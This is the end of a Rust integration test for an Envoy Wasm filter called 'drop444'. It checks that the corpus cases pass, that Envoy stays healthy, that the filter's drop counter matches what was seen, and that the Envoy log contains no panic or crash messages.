    assert!(total >= 200, "the corpus has {total} cases");
    assert!(
        failures.is_empty(),
        "{} cases failed:\n{}",
        failures.len(),
        failures.join("\n")
    );

    // Envoy is still up and serving, and every drop was the filter's.
    assert_eq!(
        send(&envoy, &get("/", "example.com")),
        Seen::Status(200, true)
    );
    assert_eq!(http_get(envoy.admin, "/ready").expect("ready").0, 200);
    // Counters reach Envoy on drop444's 1 s tick.
    let dropped = envoy.wait_counter(
        "wasmcustom.drop444.requests_dropped",
        filter_drops,
        Duration::from_secs(10),
    );
    assert!(
        (filter_drops..=drops).contains(&dropped),
        "filter counted {dropped} drops; expected drops {filter_drops}, drops seen {drops}"
    );
    let log = envoy.log();
    // A Rust panic in the module ("panicked at"), a trap or failed VM call,
    // an Envoy assertion ("envoy bug"), a crash handler's output.
    for needle in [
        "panicked",
        "panic",
        "envoy bug",
        "Wasm VM failed",
        "failed: Uncaught",
        "RuntimeError",
        "Caught ",
        "Backtrace (use",
        "][critical][",
    ] {
        assert!(
            !log.to_ascii_lowercase()
                .contains(&needle.to_ascii_lowercase()),
            "Envoy log contains {needle:?}:\n{log}"
        );
    }
}
